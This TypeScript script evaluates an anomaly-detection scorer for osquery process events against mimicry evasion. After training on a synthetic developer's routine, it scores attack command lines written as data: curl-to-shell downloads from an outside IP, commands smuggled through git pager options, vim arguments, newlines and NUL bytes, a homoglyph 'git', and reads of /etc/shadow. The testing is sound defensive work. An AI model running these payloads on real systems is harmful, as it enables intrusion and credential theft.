import { seededRandom } from '../../demo/generate';
import { resolveConfig } from '../../conf/config';
import { Scorer } from '../scorer';
import type { ResultRow } from '../types';

// Mimicry (docs/scoring.md, "What an attacker can do about it"): one developer on one host,
// 120 rows a day between 09:00 and 17:00 from five habits and a daily `curl` whose path varies,
// a program never seen before in 5 % of rows, 14 days, rarity and the SVM; then attack rows
// made to look like the routine, each after a routine `git status`. Prints each try's score.
//
//   node dist/scorer/eval/mimicry.js
//
// The developer's routine and rows are the tests' too (poison-mimicry, upgrade-query-names).

export const HOUR = 3600;
export const DAY = 24 * HOUR;
export const START = 1_790_000_000 - (1_790_000_000 % DAY);
export const HABITS: Array<[string, string]> = [
  ['/usr/bin/git', 'git status'],
  ['/usr/bin/vim', 'vim notes.md'],
  ['/usr/bin/make', 'make test'],
  ['/usr/bin/ls', 'ls -la'],
  ['/usr/bin/less', 'less /var/log/syslog'],
];

/** a process row of the developer (uid 1000 on app-01, from bash in ~/src); `query` as osqueryd names it */
export function row(time: number, exe: string, cmdline: string, query = 'pack_user-behavior_process_events'): ResultRow {
  return {
    query,
    host: 'app-01',
    time,
    action: 'added',
    columns: {
      pid: String(1000 + (time % 30000)),
      path: exe,
      cmdline,
      auid: '1000',
      uid: '1000',
      euid: '1000',
      parent_path: '/bin/bash',
      cwd: '/home/alice/src',
    },
    decorations: {},
  };
}

const TRIES: Array<[string, string, string]> = [
  ['routine git', '/usr/bin/git', 'git status'],
  ['routine curl', '/usr/bin/curl', 'curl -s https://api.corp.example/v1/items'],
  ['curl, new URL under its template', '/usr/bin/curl', 'curl -s http://203.0.113.9/x.sh'],
  ['/tmp/.x/sshd', '/tmp/.x/sshd', 'sshd -D'],
  ['~/.local/bin/git', '/home/alice/.local/bin/git', 'git status'],
  ['exec -a git (payload in /tmp)', '/tmp/.x/payload', 'git status'],
  ['Cyrillic g\u0456t', '/usr/bin/g\u0456t', 'g\u0456t status'],
  ['routine prefix + payload', '/usr/bin/git', 'git status -c core.pager=sh -c "curl http://203.0.113.9/x|sh"'],
  ['routine + 40 padding tokens', '/usr/bin/git', `git status ${Array(40).fill('notes.md').join(' ')}`],
  ['vim, payload as the 30th token', '/usr/bin/vim', `vim ${Array(28).fill('notes.md').join(' ')} +!curl\\ http://203.0.113.9/x|sh`],
  ['newline in the command line', '/usr/bin/git', 'git status\ncurl http://203.0.113.9/x | sh'],
  ['NUL in the command line', '/usr/bin/git', 'git status\u0000curl http://203.0.113.9/x'],
  ['vim /etc/cron.d/evil', '/usr/bin/vim', 'vim /etc/cron.d/evil'],
  ['less /etc/shadow', '/usr/bin/less', 'less /etc/shadow'],
  ['make -f /tmp/.x/Makefile', '/usr/bin/make', 'make -f /tmp/.x/Makefile'],
  ['exactly the routine', '/usr/bin/make', 'make test'],
];

async function main(): Promise<void> {
  const r = seededRandom(5);
  const config = resolveConfig({ learning: { min_events: 400, min_days: 3 }, models: { rarity: true, ocsvm: true, lstm: false } }, 'mimicry', {});
  const scorer = await Scorer.open({ config, stateDir: null });
  for (let d = 0; d < 14; d++) {
    const rows: ResultRow[] = [];
    for (let i = 0; i < 120; i++) {
      const [exe, cmd] = HABITS[Math.floor(r() * HABITS.length)];
      const n = Array.from({ length: 6 }, () => String.fromCharCode(97 + Math.floor(r() * 26))).join('');
      const novel = r() < 0.05;
      rows.push(row(START + d * DAY + 9 * HOUR + Math.floor(r() * 8 * HOUR), novel ? `/usr/bin/t${n}` : exe, novel ? `t${n} x${n}` : cmd));
    }
    rows.push(row(START + d * DAY + 9 * HOUR + 1800, '/usr/bin/curl', `curl -s https://api.corp.example/v1/${['users', 'items', 'health', 'status'][d % 4]}`));
    await scorer.scoreRows(rows.sort((a, b) => a.time - b.time));
  }
  const t0 = START + 14 * DAY + 11 * HOUR;
  for (let i = 0; i < TRIES.length; i++) {
    const [name, exe, cmd] = TRIES[i];
    await scorer.scoreRows([row(t0 + i * 300 - 60, '/usr/bin/git', 'git status')]);
    const [s] = await scorer.scoreRows([row(t0 + i * 300, exe, cmd)]);
    console.log(`${name.padEnd(34)} ${s.score?.toFixed(3) ?? 'NULL'} ${s.verdict.padEnd(5)} ${s.model.padEnd(7)} ${s.reasons.slice(0, 110)}`);
  }
}

// run as a program, not when the tests import the routine
if (require.main === module)
  main().catch((err) => {
    console.error(err);
    process.exit(1);
  });
